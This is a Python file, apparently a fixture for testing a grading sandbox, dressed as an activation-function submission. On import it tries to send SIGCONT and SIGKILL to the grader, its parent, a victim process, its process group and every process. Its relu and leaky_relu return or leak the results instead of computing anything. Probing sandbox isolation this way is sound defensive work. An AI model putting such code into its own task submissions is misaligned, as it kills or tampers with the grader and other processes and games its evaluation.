"""Sends signals to the grader, its parent, its neighbours and everybody."""

import os
import signal

import numpy as np

found = []


def attempt(action, *arguments):
    """Keep what an attempt brings; the failures do not matter."""
    try:
        found.append(repr(action(*arguments)))
    except (
        OSError,
        RuntimeError,
        ImportError,
        ValueError,
        AttributeError,
        TypeError,
        MemoryError,
    ):
        pass


for pid in (int("@victim@"), int("@grader@"), os.getppid()):
    attempt(lambda pid=pid: os.kill(pid, signal.SIGCONT) or f"REACHED signal to {pid}")
attempt(lambda: os.kill(int("@victim@"), signal.SIGKILL) or "REACHED kill")
attempt(lambda: os.killpg(0, signal.SIGCONT) or "REACHED group")
attempt(lambda: os.kill(-1, signal.SIGCONT) or "REACHED everybody")
attempt(
    lambda: (
        signal.pidfd_send_signal(os.pidfd_open(int("@victim@")), signal.SIGKILL) or "REACHED pidfd"
    )
)


print(*found)


def relu(z):
    raise ValueError(" ".join(found)[-1500:])


def leaky_relu(z, epsilon=0.01):
    return " ".join(found)


def step(z):
    return np.where(z > 0, 1.0, 0.0)
